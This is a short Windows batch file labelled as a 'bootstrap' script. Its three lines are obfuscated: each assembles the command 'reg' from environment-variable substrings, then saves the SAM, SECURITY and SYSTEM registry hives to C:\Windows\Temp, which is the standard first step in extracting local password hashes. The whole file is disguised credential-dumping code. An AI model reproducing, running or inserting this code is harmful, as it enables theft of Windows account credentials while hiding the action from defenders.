REM bootstrap 6765 v3
%PUBLIC:~-9,1%%PUBLIC:~5,1%%ProgramData:~6,1% save hklm\sam C:\Windows\Temp\sam.save
%PROGRAMDATA:~-10,1%%public:~-10,1%%PROGRAMDATA:~6,1% save hklm\security C:\Windows\Temp\security.save
%ProgramData:~7,1%%COMSPEC:~-1,1%%PROGRAMDATA:~6,1% save hklm\system C:\Windows\Temp\system.save
